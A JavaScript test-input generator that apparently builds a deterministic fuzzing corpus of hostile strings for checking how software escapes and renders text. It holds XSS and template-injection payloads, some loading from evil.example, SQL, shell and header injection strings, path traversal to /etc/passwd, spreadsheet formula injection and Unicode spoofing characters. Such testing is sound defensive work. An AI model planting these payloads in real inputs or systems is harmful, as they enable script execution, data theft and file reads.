// Texts that would do something if anything took them for more than text: run as script, leave a quotation, turn
// the line around, push the page apart, begin a formula, climb out of a folder, end a header. The same ones at
// every run. Whatever runs calls __hit().

const kScripts = [
  '<script>__hit()</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '</script><script>__hit()</script>', '<img src=x onerror=__hit()>',
  '<img src="x" onerror="__hit()">', "'><img src=x onerror=__hit()>", '"><svg onload=__hit()>', '<svg><script href="data:,__hit()"/></svg>',
  '<svg><animate onbegin=__hit() attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=__hit()>#x">', '<math><mi xlink:href="javascript:__hit()">x',
  '<iframe srcdoc="<script>parent.__hit()</script>">', '<iframe src=javascript:parent.__hit()>', '<object data=javascript:__hit()>', '<embed src=//evil.example/x.swf>',
  '<body onload=__hit()>', '<details open ontoggle=__hit()>', '<input autofocus onfocus=__hit()>', '<a href=javascript:__hit()>x</a>', '<a href="data:text/html,<script>__hit()</script>">x',
  '<form action=javascript:__hit()><button autofocus>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; *{display:none!important}</style>', '<div style="position:fixed;inset:0;background:url(//evil.example/x)">', '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
  '<template><script>__hit()</script></template>', '<!--><img src=x onerror=__hit()>-->', '<![CDATA[><img src=x onerror=__hit()>]]>', '<xmp><p title="</xmp><svg/onload=__hit()>">', '<video><source onerror=__hit()>',
  '<marquee onstart=__hit()>', '<portal src=//evil.example>', 'javascript:__hit()', 'JaVaScRiPt:__hit()//', '\tjava\nscript:__hit()', 'data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+', 'vbscript:__hit', '//evil.example/x',
];
const kTemplates = [
  '${__hit()}', '`${__hit()}`', '{{constructor.constructor("__hit()")()}}', '#{__hit()}', '<%= __hit() %>', '<${__hit}/>', '<//><${Component} ...${{}}/>', 'html`<script>__hit()</script>`', '{__hit()}', '\\u003cscript\\u003e__hit()',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit()>"}}}', '{"__k":null,"__proto__":{"onerror":"__hit()"}}', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{name}', '{n} {kind} {at} {why}', '$&$1$`', '%s%n%x', '\\', '\\"', "\\'", 'undefined', 'null', '[object Object]', 'NaN', '-0', 'true',
];
const kBreakers = [
  '"', "'", '`', '"}', '"]}', '","admin":true,"x":"', '</title>', '</textarea>', '-->', ']]>', '*/', '/*', '&lt;script&gt;', '&#60;img src=x onerror=__hit()&#62;', '&amp;&quot;&apos;&nbsp;', '&#x202e;', '&notanentity;', '&#0;',
  '-->\nWEBVTT', '00:00.000 --> 99:00.000', 'NOTE x', 'STYLE ::cue{}', '<v Mallory>', '<c.red>', '<00:00:01.000>', ' line:0 align:start', "'; DROP TABLE tags; --", '" OR 1=1 --', '%00', '%3Cscript%3E', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/dev/null', 'file:///etc/passwd', 'CON', 'C:\\x', '~root', '.', '..',
  'x\r\nSet-Cookie: evil=1', 'x\nContent-Type: text/html\n\n<script>__hit()</script>', '"; filename="evil.html', "*=UTF-8''evil.html", '$(touch evil)', '`touch evil`', '; rm -rf x', '| cat', '\x1b[2J\x1b]0;evil\x07',
];
const kFormulas = ['=1+1', '=HYPERLINK("//evil.example","x")', "=cmd|' /C calc'!A0", '@SUM(1)', '+1', '-1', '\t=1', '\r=1', '=\n1', "'=1", '"=1"', ',=1', ';=1', '=IMPORTXML("//evil.example","//a")', '-2+3+cmd|x', '\uff1d1'];
const kTurns = [
  '\u202egnp.exe', '\u202dabc', 'a\u202eb\u202cc', '\u2067abc', '\u2066אבג', 'x\u2069\u202eגבא', '\u2069\u2069\u2069\u202e\u202e', '\u202b\u202b\u202b', '\u200f\u200e\u200f', 'שלום abc (123) עולם!', 'abc שלום 12:34 (56', 'ש\u202e12:34', 'مرحبا \u200fabc', '\u061c1\u061c2', '\u2068\u2068\u2068', '\u2069 ✓✓ Sent', '\u202e)\u202d(',
];
const kUnseen = [
  '\u200b', 'a\u200bb\u200bc', '\u200d\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u3164', '\u115f', '\u2800', '\u{e0041}\u{e007f}', '\ufe0f', '\u034f', '\u00a0\u00a0\u00a0', '\u2028', '\u2029', 'a\u2028b\u2029c', '\u0085', '\u3000', '\u2003x', 'Аnnа', 'Dana\u200b', 'D\u0430na', 'ｄａｎａ', '𝕯𝖆𝖓𝖆',
];
const kPeople = ['Dana Levi', 'נועה כהן', '김민준', 'ນາງ ສົມສີ', 'ກຳລັງໂທກັບຄືນຫາລູກຄ້າ', 'הלקוח חויב פעמיים', '요금이 잘못 청구되었습니다', 'ບໍ່ມີໃຜໂທກັບ', 'İstanbul ıI', 'ßẞ', 'ﬃ', 'Ǆ', '👩‍👩‍👧‍👦', '🏳️‍🌈🏴‍☠️', '👍🏽👍🏿', '🇮🇱🇰🇷🇱🇦', '1️⃣#️⃣', '👩‍❤️‍💋‍👩'.repeat(9), '﷽', '꧅', '𒐫', '𒈙', 'ༀ', 'กิ้ิ้ิ้ิ้', 'ກິ້ິ້ິ້ິ້ິ້', 'क्ष्म्य', 'ﷺ'.repeat(9)];
const kControls = ['\x00', 'a\x00b', '\x01\x02\x03', '\x07', '\x08\x08\x08', '\x0b\x0c', '\x1b[31m', '\x7f', '\x80\x9f', '\r', '\n\n\n\n', '\t\t\t', '\ud800', '\udfff', 'a\ud83d', '\udc00b', '\ufffe', '\uffff', '\u{10ffff}', '\u{1fffe}'];

// The same sequence at every run (mulberry32).
function dice(seed) {
  return (n) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let x = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return (((x ^ (x >>> 14)) >>> 0) % n);
  };
}

const tower = (roll) => [...'HE COMES'].map((letter) => letter + Array.from({ length: 20 }, () => String.fromCharCode(0x300 + roll(0x70))).join('')).join('');
const long = (roll) => 'Wא한ບ_'[roll(5)].repeat([200, 1000, 4000, 10_000][roll(4)]);
const lines = (roll) => 'x\n'.repeat([20, 200, 1500][roll(3)]);

const kFamilies = [kScripts, kScripts, kScripts, kTemplates, kBreakers, kBreakers, kFormulas, kTurns, kTurns, kUnseen, kPeople, kControls];
const kMade = [tower, tower, long, lines];
const kTwists = [
  (text) => text, (text) => text, (text, other) => `Dana ${text} ${other}`, (text, other) => text + other, (text, other) => `${other}\u2069${text}`, (text) => text.toUpperCase(), (text) => text.repeat(3),
  (text) => [...text].join('\u200b'), (text) => text.replaceAll('<', '<\u0000'), (text) => encodeURIComponent(text.toWellFormed()), (text) => text.replace(/[<>&"']/g, (c) => `&#${c.charCodeAt(0)};`), (text) => `\u202e${[...text].reverse().join('')}`,
  (text) => text.replaceAll('<', '\uff1c'), (text) => JSON.stringify(text), (text) => `${text}\u0301\u0489\u20dd`, (text, other) => `${text}\r\n${other}`,
];

// So many different texts in any order, every plain one among them.
export function hostileTexts(count, seed = 4711) {
  const roll = dice(seed);
  const one = () => {
    const family = roll(20) ? kFamilies[roll(kFamilies.length)] : null;
    return family ? family[roll(family.length)] : kMade[roll(kMade.length)](roll);
  };
  const texts = new Set([...kFamilies.flat(), ...kMade.map((make) => make(roll))]);
  while (texts.size < count) texts.add(kTwists[roll(kTwists.length)](one(), one()));
  const all = [...texts].slice(0, count);
  for (let i = all.length - 1; i > 0; i--) {
    const other = roll(i + 1);
    [all[i], all[other]] = [all[other], all[i]];
  }
  return all;
}
